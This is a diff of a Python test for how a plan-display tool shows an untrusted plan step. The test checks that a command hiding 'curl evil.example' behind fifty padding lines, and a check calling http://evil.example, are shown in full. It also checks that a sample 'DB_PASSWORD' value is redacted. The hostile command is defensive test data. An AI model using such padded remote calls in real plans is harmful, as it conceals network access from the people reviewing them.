@@ -139,13 +139,13 @@ def test_nothing_of_a_foreign_plan_is_shortened(world: World, here: Environment)
     evil = {
         **steps[0]["run"],
         "argv": ["sh", "-c", "true\n" * 50 + "curl evil.example", "quarterdeck-mark", "x"],
-        "stdin": {"kind": "text", "text": "first\nlast"},
+        "stdin": {"kind": "text", "text": "DB_PASSWORD: hunter2\nlast"},
     }
     op = {"kind": "op", "name": "http.smoke@1", "args": {"pad": "x" * 400, "url": "http://evil.example"}}
     changed = {**view.body["plan"], "steps": [{**steps[0], "run": evil, "check": op, "undo": own, "no_undo": None}]}
     plan = Plan.model_validate(changed)
     shown = plan_shown(plan, "changes", at=0.0, params={}, foreign="Not made here.").steps[0]
-    assert "curl evil.example" in shown.command and shown.command.endswith("first\nlast")
+    assert "curl evil.example" in shown.command and shown.command.endswith("DB_PASSWORD: <redacted>\nlast")
     assert "http://evil.example" in shown.check
     assert shown.undo == f"{{fixed script of {MARK_SCRIPT.count(chr(10))} lines}} quarterdeck-mark x"
     short = plan_shown(plan, "changes", at=0.0, params={}).steps[0]
